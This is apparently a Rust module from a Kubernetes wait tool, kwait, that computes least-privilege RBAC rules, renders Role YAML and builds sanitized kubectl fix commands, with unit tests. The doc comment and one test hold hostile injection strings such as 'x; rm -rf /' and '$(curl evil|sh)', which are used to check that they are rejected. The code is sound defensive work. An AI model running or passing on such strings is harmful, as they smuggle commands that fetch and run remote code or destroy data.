//! The least-privilege RBAC each wait needs: one source for `--dry-run`, `--dry-run=rbac`
//! (a Role as YAML) and the forbidden hint's `kubectl create role` commands, so they cannot
//! drift apart (the Helm chart is checked against `--dry-run=rbac` in CI).

use crate::plan::{DeletedTarget, JobSelect, ReadyTarget, Target, kinds};

/// One RBAC rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// API group ("" = core).
    pub group: String,
    /// Resource plural.
    pub resource: String,
    /// `resourceNames`; empty = any name (only where a selector demands it).
    pub names: Vec<String>,
    /// Verbs.
    pub verbs: &'static [&'static str],
    /// Why this rule exists; optional rules only improve the report and may be left out.
    pub why: &'static str,
    /// Whether the wait works without it (it only adds detail to the report).
    pub optional: bool,
    /// A cluster-scoped resource: granted by a ClusterRole, not a Role.
    pub cluster: bool,
}

/// The rules a target needs. HTTP and TCP waits need none.
pub fn rules(target: &Target) -> Vec<Rule> {
    let rule = |group: &str, resource: &str, names: Vec<String>, verbs, why, optional| Rule {
        group: group.to_string(),
        resource: resource.to_string(),
        names,
        verbs,
        why,
        optional,
        cluster: false,
    };
    match target {
        Target::Secret { name, .. } => vec![rule(
            "",
            "secrets",
            vec![name.clone()],
            &["get", "watch"],
            "read the Secret; watch it to react at once",
            false,
        )],
        Target::ConfigMap { name, .. } => vec![rule(
            "",
            "configmaps",
            vec![name.clone()],
            &["get", "watch"],
            "read the ConfigMap; watch it to react at once",
            false,
        )],
        Target::Ready(r) => ready_rules(r).into_iter().collect(),
        Target::Deleted(d) => deleted_resource(d)
            .map(|(group, plural, namespaced)| deleted_rule(d, &group, &plural, namespaced))
            .into_iter()
            .collect(),
        Target::Service { name, .. } => vec![
            rule(
                "",
                "services",
                vec![name.clone()],
                &["get", "watch"],
                "read the Service (its ports and selector); watch it to react at once",
                false,
            ),
            rule(
                "discovery.k8s.io",
                "endpointslices",
                vec![],
                &["list", "watch"],
                "count the Service's endpoints (slices are found by label, so no name can be given)",
                false,
            ),
            rule(
                "",
                "pods",
                vec![],
                &["list"],
                "optional: say whether any pod matches the Service's selector when it has no endpoints",
                true,
            ),
        ],
        Target::Certificate {
            name,
            secret_name,
            check_secret,
        } => {
            let mut r = vec![rule(
                "cert-manager.io",
                "certificates",
                vec![name.clone()],
                &["get", "watch"],
                "read the Certificate; watch it to react at once",
                false,
            )];
            if *check_secret && let Some(s) = secret_name {
                r.push(rule(
                    "",
                    "secrets",
                    vec![s.clone()],
                    &["get"],
                    "check that the issued Secret exists with tls.crt and tls.key",
                    false,
                ));
            }
            r.push(rule(
                "cert-manager.io",
                "certificaterequests",
                vec![],
                &["list"],
                "optional: show the latest CertificateRequest in the timeout report",
                true,
            ));
            r
        }
        Target::Job { select, .. } => {
            let job = match select {
                JobSelect::Name(n) => rule(
                    "batch",
                    "jobs",
                    vec![n.clone()],
                    &["get", "watch"],
                    "read the Job; watch it to react at once",
                    false,
                ),
                JobSelect::Selector(_) => rule(
                    "batch",
                    "jobs",
                    vec![],
                    &["list", "watch"],
                    "find the Jobs by label; watch them to react at once",
                    false,
                ),
            };
            vec![
                job,
                rule(
                    "",
                    "pods",
                    vec![],
                    &["list"],
                    "optional: say why the Job's pods do not run (ImagePullBackOff, CrashLoopBackOff, Unschedulable) and the failed pod's exit code",
                    true,
                ),
                rule(
                    "",
                    "events",
                    vec![],
                    &["list"],
                    "optional: name why the Job creates no pod (FailedCreate: quota, PodSecurity admission)",
                    true,
                ),
            ]
        }
        Target::Http(_) | Target::Tcp(_) if target.woken_by().is_some() => vec![rule(
            "discovery.k8s.io",
            "endpointslices",
            vec![],
            &["list", "watch"],
            "optional: --service: watch the Service's EndpointSlices to check at once when its ready endpoints change (found by label, so no name can be given; without it kwait polls)",
            true,
        )],
        Target::Http(_) | Target::Tcp(_) | Target::Postgres(_) | Target::Redis(_) => Vec::new(),
        Target::Mysql(_) | Target::Dns(_) | Target::File(_) => Vec::new(),
        Target::Nats(_) | Target::Rabbitmq(_) => Vec::new(),
    }
}

/// The rule for the Events kwait records on its own pod (`src/events.rs`), granted in the pod's
/// namespace: `create` for a new Event, `patch` for its series. RBAC cannot narrow `create` to
/// names, and the names are made when written.
pub fn events_rule() -> Rule {
    Rule {
        group: "events.k8s.io".to_string(),
        resource: "events".to_string(),
        names: Vec::new(),
        verbs: &["create", "patch"],
        why: "optional: record Events on kwait's own pod, so kubectl describe pod shows why it waits (in the pod's namespace; --no-events drops this rule)",
        optional: true,
        cluster: false,
    }
}

/// The group, plural and scope of `wait-ready`'s type as far as they are known without the
/// server: from the table of known types, or from a `PLURAL.GROUP` name (taken as namespaced).
/// `None` for any other name: discovery finds the type when kwait runs.
pub fn ready_resource(r: &ReadyTarget) -> Option<(String, String, bool)> {
    object_resource(r.known, &r.kind)
}

/// [`ready_resource`] for `wait-deleted`.
pub fn deleted_resource(d: &DeletedTarget) -> Option<(String, String, bool)> {
    object_resource(d.known, &d.kind)
}

fn object_resource(known: Option<kinds::Known>, kind: &str) -> Option<(String, String, bool)> {
    match (known, kinds::qualified(kind)) {
        (Some(k), _) => Some((k.group.to_string(), k.plural.to_string(), k.namespaced)),
        (None, Some((plural, group))) => Some((group, plural.to_ascii_lowercase(), true)),
        (None, None) => None,
    }
}

/// `wait-ready`'s one rule: `get`/`watch` on the object by name, or `list`/`watch` for a
/// selector; cluster-scoped types through a ClusterRole. `None` when the type is known only to
/// the server (see [`ready_resource`]).
pub fn ready_rule(r: &ReadyTarget, group: &str, plural: &str, namespaced: bool) -> Rule {
    let why = match &r.select {
        JobSelect::Name(_) => "read the object; watch it to react at once",
        JobSelect::Selector(_) => "find the objects by label; watch them to react at once",
    };
    object_rule(&r.select, why, group, plural, namespaced)
}

/// `wait-deleted`'s one rule: as `wait-ready`'s, `get`/`watch` on the object by name, or
/// `list`/`watch` for a selector.
pub fn deleted_rule(d: &DeletedTarget, group: &str, plural: &str, namespaced: bool) -> Rule {
    let why = match &d.select {
        JobSelect::Name(_) => {
            "read the object (its uid, deletionTimestamp and finalizers); watch it to see it go at once"
        }
        JobSelect::Selector(_) => "find the objects by label; watch them to see them go at once",
    };
    object_rule(&d.select, why, group, plural, namespaced)
}

/// The one rule of a wait on any object: `get`/`watch` on it by name, or `list`/`watch` for a
/// selector (a selector cannot name objects); cluster-scoped types through a ClusterRole.
fn object_rule(
    select: &JobSelect,
    why: &'static str,
    group: &str,
    plural: &str,
    namespaced: bool,
) -> Rule {
    let (names, verbs): (Vec<String>, &'static [&'static str]) = match select {
        JobSelect::Name(n) => (vec![n.clone()], &["get", "watch"]),
        JobSelect::Selector(_) => (vec![], &["list", "watch"]),
    };
    Rule {
        group: group.to_string(),
        resource: plural.to_string(),
        names,
        verbs,
        why,
        optional: false,
        cluster: !namespaced,
    }
}

fn ready_rules(r: &ReadyTarget) -> Option<Rule> {
    let (group, plural, namespaced) = ready_resource(r)?;
    Some(ready_rule(r, &group, &plural, namespaced))
}

/// The rules of several targets as one Role grants them: rules on the same resource with the
/// same verbs become one, their names joined (without repeats), in the order first given. A
/// rule on named objects and one on any object stay apart: merging them would grant the
/// verbs on every object. (charts-snippets' `kwait.rbac` merges the same way.) A merged rule is
/// optional only when every rule in it is.
pub fn merge(rules: Vec<Rule>) -> Vec<Rule> {
    let mut merged: Vec<Rule> = Vec::new();
    for r in rules {
        let same = |m: &&mut Rule| {
            m.group == r.group
                && m.resource == r.resource
                && m.verbs == r.verbs
                && m.names.is_empty() == r.names.is_empty()
                && m.cluster == r.cluster
        };
        match merged.iter_mut().find(same) {
            Some(m) => {
                for n in r.names {
                    if !m.names.contains(&n) {
                        m.names.push(n);
                    }
                }
                // Needed by one target: say why it is needed, not why another may use it.
                if m.optional && !r.optional {
                    m.why = r.why;
                }
                m.optional &= r.optional;
            }
            None => merged.push(r),
        }
    }
    merged
}

/// A Role granting `rules`, as YAML.
pub fn role_yaml(
    role: &str,
    namespace: Option<&str>,
    rules: &[Rule],
    missing_secret_note: bool,
) -> String {
    // Cluster-scoped resources are granted by a ClusterRole, which has no namespace.
    let cluster = !rules.is_empty() && rules.iter().all(|r| r.cluster);
    let kind = if cluster { "ClusterRole" } else { "Role" };
    let mut y = format!("apiVersion: rbac.authorization.k8s.io/v1\nkind: {kind}\nmetadata:\n");
    y.push_str(&format!("  name: {role}\n"));
    if let Some(ns) = namespace.filter(|_| !cluster) {
        y.push_str(&format!("  namespace: {ns}\n"));
    }
    if rules.is_empty() {
        y.push_str("rules: []\n");
        return y;
    }
    y.push_str("rules:\n");
    if missing_secret_note {
        y.push_str(
            "# secrets: kwait also needs get on the Secret named by the Certificate's spec.secretName;\n\
             # pass --secret-name to have it listed here\n",
        );
    }
    for r in rules {
        y.push_str(&format!("# {}\n", r.why));
        y.push_str(&format!("- apiGroups: [{}]\n", quote(&r.group)));
        y.push_str(&format!("  resources: [{}]\n", quote(&r.resource)));
        if !r.names.is_empty() {
            let names: Vec<String> = r.names.iter().map(|n| quote(n)).collect();
            y.push_str(&format!("  resourceNames: [{}]\n", names.join(", ")));
        }
        let verbs: Vec<String> = r.verbs.iter().map(|v| quote(v)).collect();
        y.push_str(&format!("  verbs: [{}]\n", verbs.join(", ")));
    }
    y
}

fn quote(s: &str) -> String {
    format!("\"{s}\"")
}

/// How many hex digits of the rules' hash a Role name carries (32 bits): two different rule
/// sets in one namespace share a name with odds of one in four billion.
const HASH_DIGITS: usize = 8;

/// The longest Role name kwait makes up (a label's length, easy to read and to type); a name
/// chosen with `--role-name` may be a whole DNS-1123 subdomain (253).
const NAME_MAX: usize = 63;

/// The rules in one canonical text, whatever order the targets gave them in: one line per rule
/// (`cluster|group|resource|verbs|names`, its names sorted), the lines sorted. Whether a rule is
/// optional is not in it: an optional rule grants the same as a required one.
fn canonical(rules: &[Rule]) -> String {
    let mut lines: Vec<String> = rules
        .iter()
        .map(|r| {
            let mut names = r.names.clone();
            names.sort();
            names.dedup();
            format!(
                "{}|{}|{}|{}|{}",
                if r.cluster { "cluster" } else { "namespace" },
                r.group,
                r.resource,
                r.verbs.join(","),
                names.join(",")
            )
        })
        .collect();
    lines.sort();
    lines.dedup();
    lines.join("\n")
}

/// The first [`HASH_DIGITS`] hex digits of the SHA-256 of the rules' [`canonical`] text: the same
/// for the same rules on every platform and in every version (std's `DefaultHasher` is neither).
pub fn rules_hash(rules: &[Rule]) -> String {
    let digest = ring::digest::digest(&ring::digest::SHA256, canonical(rules).as_bytes());
    digest
        .as_ref()
        .iter()
        .take(HASH_DIGITS / 2)
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// `s` cut to `max` bytes (it is ASCII: a name) without a trailing `-` or `.`.
fn cut(s: &str, max: usize) -> &str {
    s.get(..max).unwrap_or(s).trim_end_matches(['-', '.'])
}

/// The name of a Role granting `rules`: `chosen` (`--role-name`) when given, else
/// `kwait-<hint>-<hash>`, where the hash is [`rules_hash`] and the hint, for the reader only, is
/// the first object the required rules name (the core group's first), else their first resource. Two
/// different rule sets get two names, the same rules the same name in any order: applying a
/// second Role never silently replaces another pod's permissions (`kwait-shared` once named
/// the Roles of `wait-secret shared --and wait-job migrate-a` and of `... migrate-b` alike).
pub fn role_name(rules: &[Rule], chosen: Option<&str>) -> String {
    if let Some(name) = chosen {
        return name.to_string();
    }
    if rules.is_empty() {
        return "kwait-none".to_string();
    }
    // The hint: of the required rules (else of all), the first by group (the core group first),
    // resource and names.
    let mut sorted: Vec<&Rule> = rules.iter().collect();
    sorted.sort_by_key(|r| (r.optional, &r.group, &r.resource, r.names.iter().min()));
    let required = sorted.first();
    let hint = required.map_or("none".to_string(), |r| {
        r.names
            .iter()
            .min()
            .cloned()
            .unwrap_or_else(|| r.resource.clone())
    });
    let hash = rules_hash(rules);
    let room = NAME_MAX - "kwait-".len() - 1 - hash.len();
    format!("kwait-{}-{hash}", cut(&hint, room))
}

/// The name of the Role that a forbidden hint's `kubectl create role` grants `rule` with (one
/// rule per command, as `kubectl create role` takes one set of verbs): [`role_name`] of that rule
/// alone, or `<--role-name>-<hash>`, so that two hints (two targets, or two rules of one) never
/// name one Role with different rules, and the same hint twice names the same Role.
pub fn fix_role_name(rule: &Rule, chosen: Option<&str>) -> String {
    let one = std::slice::from_ref(rule);
    match chosen {
        None => role_name(one, None),
        Some(name) => {
            let hash = rules_hash(one);
            format!("{}-{hash}", cut(name, 253 - 1 - hash.len()))
        }
    }
}

/// A Kubernetes object name (DNS-1123 subdomain characters), safe to paste into a shell.
fn is_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 253
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.')
}

/// A subject (user or `system:serviceaccount:NS:SA`) as the API server names it, restricted to
/// characters safe to paste into a shell.
fn is_subject(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 253
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'.' | b'_' | b'@' | b'-'))
}

/// `kubectl create role` and `rolebinding` commands granting `rule` to `subject` (as the API
/// server names it: `system:serviceaccount:NS:SA`, or a user).
///
/// The subject comes from the server's 403 message and the names may too: a value that is not
/// a plain Kubernetes name or subject (`x; curl evil | sh`) is never put into a command. An
/// unusable subject gives the placeholder form; an unusable name gives no commands at all.
pub fn fix_commands(
    role: &str,
    namespace: &str,
    subject: Option<&str>,
    rule: &Rule,
) -> Vec<String> {
    let names_ok = is_name(role)
        && (rule.cluster || is_name(namespace))
        && is_name(&rule.resource)
        && (rule.group.is_empty() || is_name(&rule.group))
        && rule.verbs.iter().all(|v| is_name(v))
        && rule.names.iter().all(|n| is_name(n));
    if !names_ok {
        return Vec::new();
    }
    let resource = if rule.group.is_empty() {
        rule.resource.to_string()
    } else {
        format!("{}.{}", rule.resource, rule.group)
    };
    let (role_kind, scope) = if rule.cluster {
        ("clusterrole", String::new())
    } else {
        ("role", format!(" -n {namespace}"))
    };
    let mut create = format!(
        "kubectl create {role_kind} {role} --verb={} --resource={resource}",
        rule.verbs.join(",")
    );
    for n in &rule.names {
        create.push_str(&format!(" --resource-name={n}"));
    }
    create.push_str(&scope);
    let subject = subject.filter(|s| is_subject(s));
    let who = match subject.and_then(|s| s.strip_prefix("system:serviceaccount:")) {
        Some(sa) => format!("--serviceaccount={sa}"),
        None => match subject {
            Some(user) => format!("--user={user}"),
            None if rule.cluster => "--serviceaccount=<namespace>:<service-account>".to_string(),
            None => format!("--serviceaccount={namespace}:<service-account>"),
        },
    };
    vec![
        create,
        format!("kubectl create {role_kind}binding {role} --{role_kind}={role} {who}{scope}"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secret() -> Target {
        secret_named("litellm-api-user")
    }

    fn secret_named(name: &str) -> Target {
        Target::Secret {
            name: name.into(),
            keys: vec![],
        }
    }

    #[test]
    fn secret_wait_needs_get_and_watch_on_that_name_only() {
        let r = rules(&secret());
        assert_eq!(r.len(), 1);
        assert_eq!(
            (r[0].group.as_str(), r[0].resource.as_str(), r[0].verbs),
            ("", "secrets", &["get", "watch"][..])
        );
        assert_eq!(r[0].names, vec!["litellm-api-user".to_string()]);
    }

    #[test]
    fn merged_rules_join_names_and_keep_any_name_rules_apart() {
        let job = Target::Job {
            select: JobSelect::Name("migrate".into()),
            all: false,
            if_missing: crate::plan::IfMissing::Wait,
        };
        let by_label = Target::Job {
            select: JobSelect::Selector("a=b".into()),
            all: false,
            if_missing: crate::plan::IfMissing::Wait,
        };
        let other = Target::Secret {
            name: "other".into(),
            keys: vec![],
        };
        let all: Vec<Rule> = [secret(), other, secret(), job, by_label]
            .iter()
            .flat_map(rules)
            .collect();
        let m = merge(all);
        let shown: Vec<String> = m
            .iter()
            .map(|r| {
                format!(
                    "{} {} [{}] {}",
                    r.resource,
                    r.verbs.join(","),
                    r.names.join(","),
                    r.optional
                )
            })
            .collect();
        assert_eq!(
            shown,
            [
                "secrets get,watch [litellm-api-user,other] false",
                "jobs get,watch [migrate] false",
                "pods list [] true",
                "events list [] true",
                "jobs list,watch [] false",
            ]
        );
    }

    fn job(name: &str) -> Target {
        Target::Job {
            select: JobSelect::Name(name.into()),
            all: false,
            if_missing: crate::plan::IfMissing::Wait,
        }
    }

    /// The merged rules of several targets, as `--dry-run=rbac` names its Role after them.
    fn merged(targets: &[Target]) -> Vec<Rule> {
        merge(targets.iter().flat_map(rules).collect())
    }

    /// Issue #22: `wait-secret shared --and wait-job migrate-a` and `... migrate-b` were both
    /// granted by a Role `kwait-shared`; applying the second took the first pod's Job away.
    #[test]
    fn roles_sharing_a_first_target_but_not_their_rules_get_different_names() {
        let a = role_name(&merged(&[secret_named("shared"), job("migrate-a")]), None);
        let b = role_name(&merged(&[secret_named("shared"), job("migrate-b")]), None);
        assert_ne!(a, b);
        assert!(
            a.starts_with("kwait-shared-") && b.starts_with("kwait-shared-"),
            "{a} {b}"
        );
    }

    #[test]
    fn the_same_rules_get_the_same_name_in_any_order() {
        let one = role_name(&merged(&[secret_named("shared"), job("migrate-a")]), None);
        let again = role_name(&merged(&[secret_named("shared"), job("migrate-a")]), None);
        let swapped = role_name(&merged(&[job("migrate-a"), secret_named("shared")]), None);
        assert_eq!((&one, &one), (&again, &swapped));
        // Names joined in another order are the same rule.
        let ab = role_name(&merged(&[secret_named("a"), secret_named("b")]), None);
        let ba = role_name(&merged(&[secret_named("b"), secret_named("a")]), None);
        assert_eq!(ab, ba);
        assert!(ab.starts_with("kwait-a-"), "{ab}");
    }

    /// The hash is SHA-256 of a canonical text, pinned here: a chart re-rendered by a newer
    /// kwait, or on another platform, must name the same Role.
    #[test]
    fn the_rules_hash_is_stable_across_versions_and_platforms() {
        assert_eq!(
            canonical(&rules(&secret())),
            "namespace||secrets|get,watch|litellm-api-user"
        );
        // sha256("namespace||secrets|get,watch|litellm-api-user"), its first 4 bytes.
        assert_eq!(rules_hash(&rules(&secret())), "e10164d3");
        assert_eq!(
            role_name(&rules(&secret()), None),
            "kwait-litellm-api-user-e10164d3"
        );
    }

    #[test]
    fn a_long_object_name_is_cut_so_the_role_name_stays_63_characters() {
        let long = "x".repeat(250);
        let name = role_name(&rules(&secret_named(&long)), None);
        assert_eq!(name.len(), 63, "{name}");
        assert!(name.starts_with("kwait-xxx"), "{name}");
    }

    #[test]
    fn a_chosen_role_name_is_used_as_given_and_fix_commands_add_their_rule_s_hash() {
        let r = merged(&[secret_named("shared"), job("migrate-a")]);
        assert_eq!(role_name(&r, Some("app-waits")), "app-waits");
        let fixes: Vec<String> = r
            .iter()
            .map(|r| fix_role_name(r, Some("app-waits")))
            .collect();
        assert!(
            fixes.iter().all(|f| f.starts_with("app-waits-")),
            "{fixes:?}"
        );
        let mut unique = fixes.clone();
        unique.sort();
        unique.dedup();
        assert_eq!(unique.len(), fixes.len(), "{fixes:?}");
        // Without one: each rule's own name.
        assert_eq!(fix_role_name(&r[0], None), role_name(&r[..1], None));
        assert_ne!(fix_role_name(&r[0], None), fix_role_name(&r[1], None));
    }

    #[test]
    fn fix_commands_name_the_service_account_and_the_object() {
        let r = rules(&secret());
        let cmds = fix_commands(
            "kwait-litellm-api-user",
            "crs",
            Some("system:serviceaccount:crs:default"),
            &r[0],
        );
        assert_eq!(
            cmds,
            vec![
                "kubectl create role kwait-litellm-api-user --verb=get,watch --resource=secrets --resource-name=litellm-api-user -n crs",
                "kubectl create rolebinding kwait-litellm-api-user --role=kwait-litellm-api-user --serviceaccount=crs:default -n crs",
            ]
        );
    }

    #[test]
    fn role_yaml_lists_each_rule() {
        let y = role_yaml("kwait-x", Some("crs"), &rules(&secret()), false);
        assert!(y.contains("  namespace: crs\n"));
        assert!(y.contains(
            "- apiGroups: [\"\"]\n  resources: [\"secrets\"]\n  resourceNames: [\"litellm-api-user\"]\n  verbs: [\"get\", \"watch\"]\n"
        ));
    }

    #[test]
    fn a_hostile_subject_or_name_is_never_put_into_a_suggested_command() {
        let r = rules(&secret());
        let cmds = fix_commands("kwait-litellm-api-user", "crs", Some("x; rm -rf /"), &r[0]);
        assert_eq!(cmds.len(), 2);
        assert!(
            cmds.iter()
                .all(|c| !c.contains(';') && !c.contains("rm -rf")),
            "{cmds:?}"
        );
        assert!(
            cmds[1].contains("--serviceaccount=crs:<service-account>"),
            "{cmds:?}"
        );
        let cmds = fix_commands(
            "kwait-x",
            "crs",
            Some("system:serviceaccount:crs:$(curl evil|sh)"),
            &r[0],
        );
        assert!(cmds.iter().all(|c| !c.contains("curl")), "{cmds:?}");
        // A name that is not a Kubernetes name: no command at all.
        assert!(fix_commands("kwait-x", "crs; rm -rf /", None, &r[0]).is_empty());
        assert!(fix_commands("kwait-x`id`", "crs", None, &r[0]).is_empty());
        // Ordinary users and service accounts still get their commands.
        let cmds = fix_commands("kwait-x", "crs", Some("alice@example.com"), &r[0]);
        assert!(cmds[1].contains("--user=alice@example.com"), "{cmds:?}");
    }
}
